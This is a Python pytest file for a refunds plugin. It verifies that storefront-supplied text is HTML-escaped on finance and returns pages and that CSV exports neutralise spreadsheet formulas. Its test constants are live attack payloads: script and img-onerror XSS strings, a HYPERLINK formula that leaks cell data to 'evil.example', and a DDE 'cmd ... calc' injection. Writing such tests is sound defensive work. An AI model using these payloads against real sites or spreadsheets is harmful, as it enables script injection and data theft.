"""Text a storefront (or its customer) typed is shown as text: markup in a product name, a
comment, an order id or a customer id never becomes markup on the finance pages or the returns
page, and a cell that a spreadsheet would run as a formula is written with a leading ``'``
in every CSV the service writes (API lists and ``refunds ledger export``)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from refunds_plugin.finance import reports
from refunds_plugin.finance.spreadsheet import safe_cell
from refunds_plugin.finance.tokens import create_token
from tests.fakes.returns_client import open_form, submit
from tests.fakes.returns_shop import ReturnsShop, order_event
from tests.fakes.shop import Shop

SCRIPT = '<script>alert("x")</script>'
IMG = '<img src=x onerror=alert(1)>'
ORDER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def shop(sqlite_url: str, now: datetime) -> Iterator[Shop]:
    made = Shop(sqlite_url, now)
    paid = (now - timedelta(days=3)).isoformat()
    made.send("order.paid", {"order": {
        "id": ORDER, "currency": "EUR", "paid_at": paid, "delivered_at": paid,
        "customer": {"id": CUSTOMER, "email": "ann@example.com"},
        "lines": [{"id": "l1", "sku": "-SKU+1", "name": f"Mug {SCRIPT}", "quantity": 1,
                   "unit_amount": 2500}],
        "shipping_amount": 0, "total_amount": 2500,
        "payment": {"provider": "stripe", "reference": "pay_x", "amount": 2500}}})
    made.send("return.requested", {"return": {
        "id": "r-x", "order_id": ORDER, "comment": f"broken {IMG} {SCRIPT}",
        "lines": [{"line_id": "l1", "quantity": 1, "reason": "damaged"}]}})
    yield made
    made.runtime.engine.dispose()


def _no_markup(html: str) -> None:
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "onerror=alert" not in html or "&lt;img src=x onerror=alert(1)&gt;" in html


def test_storefront_text_is_escaped_on_every_finance_page(shop: Shop, now: datetime) -> None:
    token = create_token(shop.runtime.engine, "Ada", "admin", now).secret
    client = shop.app.test_client()
    auth = {"Authorization": f"Bearer {token}"}
    listing = client.get("/finance/", headers=auth).get_data(as_text=True)
    decision_id = re.search(r'/finance/decisions/([0-9a-f-]{36})', listing)
    assert decision_id is not None
    page = client.get(f"/finance/decisions/{decision_id.group(1)}", headers=auth)
    html = page.get_data(as_text=True)
    _no_markup(html)
    assert "Mug &lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # the comment, as the customer typed it
    for path in ("/finance/", "/finance/reviews", "/finance/summary"):
        _no_markup(client.get(path, headers=auth).get_data(as_text=True))


def test_formula_cells_are_neutralised_in_the_api_csv(shop: Shop, now: datetime) -> None:
    token = create_token(shop.runtime.engine, "Fin", "finance", now).secret
    resp = shop.app.test_client().get("/api/decisions?format=csv",
                                      headers={"Authorization": f"Bearer {token}"})
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert [(r["order_id"], r["customer_id"]) for r in rows] == [("'" + ORDER, "'" + CUSTOMER)]
    assert rows[0]["amount"] == "2500"  # numbers stay numbers


def test_formula_cells_are_neutralised_in_the_ledger_export(shop: Shop, tmp_path: Path) -> None:
    out = io.StringIO()
    reports.export_decisions(shop.runtime.engine, out, "csv", None, None)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["order_id"], r["customer_id"]) for r in rows] == [("'" + ORDER, "'" + CUSTOMER)]


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-500, -500), (None, None),
])
def test_safe_cell(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_no_module_writes_csv_except_through_the_shared_writer() -> None:
    """One writer for every CSV: a new export (another area's) cannot forget the rule."""
    root = Path(__file__).resolve().parents[3]
    offenders = [
        str(p.relative_to(root)) for pkg in ("refunds_plugin", "webhooks")
        for p in (root / pkg).rglob("*.py")
        if p.name != "spreadsheet.py"
        and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "use refunds_plugin.finance.spreadsheet for CSV"


def test_storefront_text_is_escaped_on_the_returns_page(sqlite_url: str, now: datetime) -> None:
    shop = ReturnsShop(sqlite_url, lambda: now)
    shop.seed(order_event("1001", lines=[
        {"id": "l1", "sku": "MUG-1", "name": f"Mug {SCRIPT}", "quantity": 1, "unit_amount": 2500},
        {"id": "l2", "sku": "TEE", "name": IMG, "quantity": 1, "unit_amount": 4000}]))
    client = shop.app.test_client()
    form = open_form(client)
    html = form.get_data(as_text=True)
    _no_markup(html)
    assert "Mug &lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    answer = submit(client, form, **{"line-0-qty": "1", "line-0-reason": "damaged",
                                     "comment": SCRIPT, "resolution": "refund"})
    assert answer.status_code in (200, 201)
    _no_markup(answer.get_data(as_text=True))
    shop.close()
